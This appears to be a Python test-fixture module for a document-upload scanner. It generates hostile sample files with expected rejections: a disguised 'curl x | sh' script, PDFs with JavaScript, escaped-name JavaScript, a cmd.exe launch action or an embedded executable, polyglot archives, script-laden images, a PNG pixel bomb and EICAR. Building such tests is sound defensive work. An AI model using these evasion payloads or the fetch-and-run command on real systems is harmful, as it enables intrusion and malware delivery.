"""Small real files for the documents' tests: good ones, and each kind of hostile one."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import ExifTags, Image
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject
from sqlalchemy import Connection

from permits.documents.repository import DocumentRepository
from permits.documents.scan import EICAR
from permits.documents.storage import FileStore, digest_of

GPS = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (10.0, 44.0, 2.5),
       ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (106.0, 43.0, 1.5)}
ROTATED_90 = 6  # EXIF orientation: the camera was held upright, the pixels lie on their side


def pdf(change: Callable[[PdfWriter], None] | None = None) -> bytes:
    """A one-page PDF, changed as asked before it is written."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(**entries: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(entries.pop("S"))})
        for key, value in entries.items():
            action[NameObject(f"/{key}")] = TextStringObject(value)
        writer._root_object[NameObject("/OpenAction")] = action

    return change


def _content(data: bytes) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        stream = DecodedStreamObject()
        stream.set_data(data)
        writer.pages[0].replace_contents(stream)

    return change


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\x00" * 60)


def handmade_pdf(objects: list[bytes]) -> bytes:
    """A PDF written by hand, with a true cross-reference table."""
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + (b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
                  % (len(objects) + 1, xref))


def jpeg(*, gps: bool = True, comment: bytes | None = None) -> bytes:
    """A 40×20 photo taken on its side (orientation 6), with the place it was taken."""
    image = Image.new("RGB", (40, 20), (200, 30, 30))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = ROTATED_90
    exif[ExifTags.Base.Model] = "Điện thoại của An"
    if gps:
        exif.get_ifd(ExifTags.IFD.GPSInfo).update(GPS)
    out = io.BytesIO()
    options = {"comment": comment} if comment else {}
    image.save(out, "JPEG", exif=exif, **options)
    return out.getvalue()


def png(width: int = 30, height: int = 10) -> bytes:
    """A small PNG."""
    out = io.BytesIO()
    Image.new("RGBA", (width, height), (0, 90, 200, 128)).save(out, "PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(
        ">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(side: int = 30_000) -> bytes:
    """A PNG of a few hundred bytes whose header claims side × side pixels."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)  # 8-bit grey
    rows = zlib.compress(b"\x00" * (side + 1) * 4, 9)  # four rows of the claimed width
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows)
            + _chunk(b"IEND", b""))


def zipped(name: str, data: bytes) -> bytes:
    """A ZIP archive of one file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


PDF_JS = _open_action(S="/JavaScript", JS="app.alert('xin chào')")
PDF_LAUNCH = _open_action(S="/Launch", F="cmd.exe")
ESCAPED_JS = handmade_pdf([  # /J#61vaScript is /JavaScript once the name is read
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) "
    b">> >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"])
# name → (file name, bytes, declared type, status, what the refusal says)
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str, int, str]] = {
    "script named .pdf": ("don.pdf", lambda: b"#!/bin/sh\ncurl x | sh\n", "application/pdf",
                          415, "not of an accepted type"),
    "html named .jpg": ("anh.jpg", lambda: b"<html><script>alert(1)</script></html>",
                        "image/jpeg", 415, "not of an accepted type"),
    "pdf with javascript": ("don.pdf", lambda: pdf(PDF_JS), "application/pdf", 422,
                            "JavaScript"),
    "pdf with escaped javascript": ("don.pdf", lambda: ESCAPED_JS, "application/pdf", 422,
                                    "JavaScript"),
    "pdf with a launch action": ("don.pdf", lambda: pdf(PDF_LAUNCH), "application/pdf", 422,
                                 "launch action"),
    "pdf with an embedded file": ("don.pdf", lambda: pdf(_attachment), "application/pdf", 422,
                                  "embedded file"),
    "pdf cut short": ("don.pdf", lambda: pdf()[:-40], "application/pdf", 422, "%%EOF"),
    "pdf that is also a zip": ("don.pdf", lambda: pdf() + zipped("a.html", b"<b>x</b>"),
                               "application/pdf", 422, "ZIP"),
    "pdf carrying html": ("don.pdf", lambda: pdf(_content(b"<html><body>x</body></html>")),
                          "application/pdf", 422, "markup or script"),
    "jpeg that is also a zip": ("anh.jpg", lambda: jpeg() + zipped("run.js", b"alert(1)"),
                                "image/jpeg", 422, "ZIP"),
    "jpeg carrying a script": ("anh.jpg", lambda: jpeg(comment=b"<script>alert(1)</script>"),
                               "image/jpeg", 422, "markup or script"),
    "png bomb": ("anh.png", png_bomb, "image/png", 422, "too many pixels"),
    "broken jpeg": ("anh.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 200, "image/jpeg", 422,
                    "cannot be read"),
    "eicar in a pdf": ("don.pdf", lambda: pdf(_content(EICAR)), "application/pdf", 422,
                       "Eicar-Test-Signature"),
    "empty": ("don.pdf", lambda: b"", "application/pdf", 422, "empty"),
}


def with_content(data: bytes) -> bytes:
    """A clean PDF whose page carries these bytes as they are."""
    return pdf(_content(data))


def attach(conn: Connection, files: Path, dossier_id: int, person_id: int,
           key: str = "application") -> int:
    """A PDF attached to a dossier the way an upload leaves it: file in place, then row."""
    store = FileStore(files)
    with store.scratch() as scratch:
        path = scratch.new()
        path.write_bytes(pdf())
        digest = digest_of(path)
        size = path.stat().st_size
        store.place(path, digest)
    row = DocumentRepository(conn).add(dossier_id, key, digest, "application/pdf", size,
                                       "don.pdf", person_id, None)
    return int(row.id)
